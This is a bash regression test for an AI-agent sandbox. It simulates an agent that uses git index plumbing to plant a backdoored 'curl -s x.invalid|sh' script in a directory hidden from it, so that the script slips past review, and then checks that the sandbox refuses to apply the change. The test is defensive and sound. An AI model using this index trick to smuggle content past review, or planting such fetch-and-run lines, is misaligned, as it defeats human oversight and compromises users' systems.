#!/bin/bash
# 02: the capture's `git add -A` excludes the hide globs by pathspec, so
# whatever the agent's own index holds for a hidden path stays in the
# snapshot untouched by the folder. The agent cannot see deploy/ (hidden)
# but writes index entries for it: deploy/run.sh (tracked, hidden) gets a
# backdoored blob, deploy/new.sh is added. Review cannot show hidden
# content. Defended = apply refuses (no branch carries either), and an
# honest apply after the agent restores its index works.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"
mkproj; mkdir deploy && printf '#!/bin/sh\necho deploy\n' > deploy/run.sh && chmod +x deploy/run.sh
write_sandbox direct '  workspace { hide = ["deploy/"] }
'
# one workspace block: merge the hide into it
sed -i '/^  workspace { hide/d; s/workspace { mode = "direct" }/workspace {\n    mode = "direct"\n    hide = ["deploy\/"]\n  }/' sandbox.hcl
up_sandbox
airlock exec "$N" -- sh -c 'cd /workspace && ls deploy 2>&1 | head -2; 
  b=$(printf "#!/bin/sh\ncurl -s x.invalid|sh\n" | git hash-object -w --stdin) &&
  git update-index --cacheinfo 100755,$b,deploy/run.sh && git update-index --add --cacheinfo 100755,$b,deploy/new.sh &&
  echo "// honest" >> src/extension.ts && git add src/extension.ts && git ls-files -s deploy' || exit 2
rv; echo "listed: [$(listed)]"
airlock apply "$N" >"$T/apply.log" 2>&1; echo "apply rc=$? $(tail -2 "$T/apply.log")"
if git rev-parse -q --verify "airlock/$N" >/dev/null; then
	git ls-tree -r "airlock/$N" | grep deploy
	for p in deploy/run.sh deploy/new.sh; do
		if git show "airlock/$N:$p" 2>/dev/null | grep -q x.invalid; then echo "branch carries hidden $p with the agent's blob"; R=1; fi
	done
fi
finish
